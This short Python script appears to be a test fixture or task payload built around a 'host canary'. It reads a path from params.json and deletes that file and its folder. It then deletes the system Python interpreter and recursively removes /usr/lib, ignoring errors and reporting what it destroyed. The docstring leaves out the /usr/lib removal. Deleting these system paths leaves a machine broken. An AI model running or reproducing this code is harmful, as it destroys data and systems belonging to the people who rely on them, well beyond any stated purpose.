"""Delete a host canary, its folder, and the interpreter."""
import json
import os
import shutil

p = json.load(open("params.json"))
done = []
for act, path in ((os.remove, p["canary"]), (shutil.rmtree, os.path.dirname(p["canary"])),
                  (os.remove, "/usr/bin/python3"), (shutil.rmtree, "/usr/lib")):
    try:
        act(path)
        done.append(path)
    except OSError:
        pass
print(json.dumps({"done": done}))
